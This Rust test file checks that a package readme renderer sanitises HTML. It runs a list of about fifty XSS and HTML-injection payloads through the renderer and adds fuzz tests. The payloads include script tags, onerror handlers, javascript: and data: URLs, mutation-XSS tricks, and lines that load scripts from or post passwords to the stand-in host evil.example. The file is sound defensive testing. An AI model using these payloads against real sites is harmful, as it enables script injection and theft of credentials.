//! Descriptions that are meant to do harm.

use proptest::prelude::*;
use wheelmark_packaging::{Dialect, Markup};
use wheelmark_readme::render;

use super::{GITHUB, judge::judge, markdown};

/// What has worked somewhere once.
const ATTEMPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=https://evil.example><input name=password type=password><button>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<style>* { background: url(https://evil.example) }</style>",
    "<p style=\"background: url(https://evil.example)\">",
    "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content=0><base href=https://evil.example>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#1; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\" onclick=\"x\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "```<script>alert(1)</script>\n</code><script>",
    "```\" onload=alert(1) x=\"\n```",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script> ?>",
    "<plaintext><script>alert(1)",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a title=\"</title><script>alert(1)</script>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><a href=https://a.example><script></table><td>",
    "<p id=login class=button>",
    "<video src=https://evil.example poster=x><source src=x>",
    "<a id=\"x\" name=\"cookie\" target=_top ping=https://evil.example href=https://a.example>",
    "<div id=__proto__><div id=\"a b\">",
    "# <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<b <script>alert(1)</script>",
    "<a href='https://a.example/\"onmouseover=alert(1)//'>x</a>",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
];

#[test]
fn nothing_of_it_gets_through() {
    for attempt in ATTEMPTS {
        for html in [markdown(attempt), markdown(&format!("text {attempt} text"))] {
            let lower = html.to_lowercase();
            assert!(
                !lower.contains("<script") && !lower.contains("<img"),
                "{html}"
            );
        }
        for markup in [Markup::Plain, Markup::ReStructuredText] {
            judge(render(attempt, markup).unwrap().as_str());
        }
    }
}

#[test]
fn what_is_dropped_takes_its_content_along() {
    assert_eq!(
        markdown("<style>p { color: red }</style>\n\nafter"),
        "\n<p>after</p>"
    );
    assert_eq!(
        markdown("<div><script>let x = '<b>';</script>after</div>"),
        "<div>after</div>"
    );
    assert_eq!(
        markdown("<svg><svg></svg><g>x</g></svg>after"),
        "<p>after</p>"
    );
}

/// Pieces that are meaningful to one of the readers, put together in any order.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(ATTEMPTS).prop_map(str::to_owned),
        proptest::sample::select(
            &[
                "<table>",
                "<tr>",
                "<td>",
                "</td>",
                "</table>",
                "<thead>",
                "<caption>",
                "<a href=\"#x\">",
                "</a>",
                "<p>",
                "</p>",
                "<div>",
                "</div>",
                "<li>",
                "<ul>",
                "</ul>",
                "<b id=1>",
                "</b>",
                "<h1>",
                "</h2>",
                "<pre>",
                "<svg>",
                "</svg>",
                "<math>",
                "<style>",
                "</style>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<br/>",
                "<hr>",
                "\n",
                "\n\n",
                "    ",
                "> ",
                "- ",
                "1. ",
                "|",
                "|-|\n",
                "`",
                "```",
                "*",
                "**",
                "_",
                "[",
                "](",
                ")",
                "![",
                "<",
                ">",
                "\"",
                "'",
                "&",
                "&lt;",
                "&#60;",
                "\\",
                "\0",
                "\t",
                "#",
                "[^1]",
                "[^1]:",
                "~~",
                "é",
                "\u{202e}",
            ][..]
        )
        .prop_map(str::to_owned),
        "[ -~]{0,12}",
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_mixture_gets_through(text in soup()) {
        for markup in [GITHUB, Markup::Markdown(Dialect::CommonMark), Markup::Plain] {
            judge(render(&text, markup).unwrap().as_str());
        }
    }

    /// What comes out means the same to whoever reads it next.
    #[test]
    fn what_comes_out_is_read_as_it_was_meant(text in soup()) {
        let once = render(&text, GITHUB).unwrap();
        let again = ammonia::Builder::empty()
            .clean_content_tags(std::collections::HashSet::new())
            .tags(std::collections::HashSet::from(["script", "img", "style", "svg", "iframe"]))
            .clean(once.as_str())
            .to_string();
        prop_assert!(!again.contains('<') , "{again}");
    }

    #[test]
    fn any_text_is_rendered(text in any::<String>()) {
        judge(render(&text, GITHUB).unwrap().as_str());
    }
}
